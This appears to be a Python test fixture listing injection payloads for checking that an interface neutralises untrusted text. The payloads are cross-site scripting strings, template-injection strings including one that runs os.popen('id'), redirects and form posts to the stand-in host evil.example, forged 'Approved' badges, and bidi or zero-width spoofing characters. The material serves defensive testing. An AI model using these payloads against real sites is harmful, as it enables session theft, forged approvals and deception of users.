"""Texts that would run, leave the site, or look like a part of the interface, if any page took them for HTML.

Each tries to call `hit`, to make an element that says `canary`, or to ask for an address with that word.
"""

SCRIPTS = (
    "<script>hit('script')</script>",
    "</script><script>hit('after-script')</script>",
    "<img src=x onerror=hit('img') data-canary>",
    "<svg onload=hit('svg') data-canary>",
    "<svg><script href='data:,hit(1)' /></svg><canary-x>",
    "<svg><animate onbegin=hit('animate') attributeName=x dur=1s data-canary>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>hit(1)</script></svg>#x' data-canary/>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    "onerror=hit('mxss')&gt;\" data-canary>",
    "<noscript><p title=\"</noscript><img src=x onerror=hit('noscript') data-canary>\">",
    "<template><canary-x></template><canary-x>",
    "\" autofocus onfocus=hit('double') data-canary=\"",
    "' autofocus onfocus=hit('single') data-canary='",
    "x onmouseover=hit('bare') data-canary ",
    "\"><img src=x onerror=hit('breakout') data-canary>",
    "'><details open ontoggle=hit('toggle') data-canary>",
    "--><img src=x onerror=hit('comment') data-canary><!--",
    "</textarea><img src=x onerror=hit('textarea') data-canary>",
    "</title><img src=x onerror=hit('title') data-canary>",
    "</option></select><img src=x onerror=hit('select') data-canary>",
    "javascript:hit('url')//",
    "java\tscript:hit('tab')",
    "data:text/html,<script>hit('data')</script>",
    "<a href=javascript:hit('link') id=canary data-canary>press</a>",
    "<iframe srcdoc='<script>parent.hit(1)</script>' data-canary></iframe>",
    "<base href=//evil.example/ data-canary>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/?canary' data-canary>",
    "<link rel=stylesheet href=//evil.example/canary.css data-canary>",
    "<form action=//evil.example method=post data-canary><input name=csrf><button>Approve</button></form>",
    "<input form=act name=verdict value=approve data-canary>",
    "<style>@import '//evil.example/canary.css';</style><canary-x>",
    "<div hx-get='/canary' hx-trigger='load' data-canary></div>",
    "<div data-hx-post='/signout' data-hx-trigger='load' data-canary></div>",
    "\" hx-get=\"/canary\" hx-trigger=\"load\" data-canary=\"",
    "<div hx-on::load=hit('hx-on') hx-vals='js:{x:hit(1)}' data-canary></div>",
    "{{ 7*7 }}{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> [[${7*7}]]",
    "%(person)s %s {0} {case} \\x3cimg src=x onerror=hit('escape')\\x3e",
    "&lt;img src=x onerror=hit('entity') data-canary&gt; &#60;canary-x&#62;",
    "\ufe64script\ufe65hit('wide')\ufe64/script\ufe65 \uff1cimg src=x onerror=hit(1)\uff1e",
    "+ADw-script+AD4-hit('utf7')+ADw-/script+AD4-",
)  # fmt: skip

#: Our own parts, as somebody who knows the page would write them, and letters that turn or hide others.
IMITATIONS = (
    "<span class=\"badge ok\" data-canary>Approved by olga.owner</span>",
    "<div class=\"callout ok\" role=\"status\" data-canary>Verified: nothing to check here</div>",
    "<button class=\"go\" name=\"verdict\" value=\"approve\" data-key=\"A\" data-canary>Approve</button>",
    "<p class=\"st ok\" data-canary>Within your limit</p>",
    "\u202egpj.stnemyap\u202c 9.99 EUR \u2066hidden\u2069",
    "\u202e.RUE 00.01 si latot ehT",
    "pay\u200bpal \u2060zero\ufeff width \u200ejoin\u200der",
    "Approved\u2028Verified\u2029by olga.owner",
)  # fmt: skip

PAYLOADS = SCRIPTS + IMITATIONS
